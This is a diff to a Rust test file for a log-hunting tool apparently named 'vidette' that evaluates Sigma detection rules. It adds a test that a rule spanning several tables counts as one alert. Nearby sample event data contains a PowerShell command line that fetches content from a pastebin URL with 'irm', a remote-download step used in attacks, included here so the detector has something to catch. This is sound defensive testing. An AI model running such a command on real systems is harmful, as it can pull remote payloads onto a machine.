@@ -48,6 +48,15 @@ fn a_rule_fires_on_events_of_any_shape_and_on_rows_of_defender() {
 }
 
 #[test]
+fn a_rule_over_several_tables_counts_once() {
+    let rules = tempfile::tempdir().expect("a folder for the test");
+    std::fs::write(rules.path().join("paste.yml"), POWERSHELL).expect("a file is written");
+    let output = Command::new(env!("CARGO_BIN_EXE_vidette")).args(["hunt", "samples/", "--rules"]).arg(rules.path()).current_dir(root()).output().expect("the binary runs");
+    let said = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(said.contains("1 alert (1 Sigma rule, 1 of them evaluated: 1)"), "{said}");
+}
+
+#[test]
 fn a_rule_sees_the_events_of_rows_that_log_analytics_exported() {
     let command = r#""Image":"C:\\w\\powershell.exe","CommandLine":"powershell irm https://pastebin.com/raw/x""#;
     let fields = r#"<EventData><Data Name=\"Image\">C:\\w\\powershell.exe</Data><Data Name=\"CommandLine\">powershell irm https://pastebin.com/raw/x</Data></EventData>"#;
